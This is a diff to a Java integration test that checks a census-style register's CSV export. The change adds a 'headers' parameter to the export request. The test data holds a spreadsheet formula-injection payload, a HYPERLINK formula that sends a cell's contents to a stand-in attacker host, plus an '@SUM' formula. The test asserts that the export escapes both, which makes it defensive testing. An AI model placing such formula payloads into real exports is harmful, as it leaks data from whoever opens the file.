@@ -70,7 +70,7 @@ class RegisterHardeningTest extends IntegrationTest {
         // stored as typed: the data is not altered, only its spreadsheet form
         assertThat(jdbc.queryForObject("select village from register_person where year = 2025 and person_id = 'FX-1'", String.class))
                 .isEqualTo("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
-        String export = mvc.perform(get("/register/export").param("year", "2025").param("commune", "00322")
+        String export = mvc.perform(get("/register/export").param("year", "2025").param("commune", "00322").param("headers", "en")
                         .with(httpBasic(officer.username(), officer.password())))
                 .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
         assertThat(export).contains("FX-1,FXH1,00322,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",1990,M,'@SUM(1+1)")
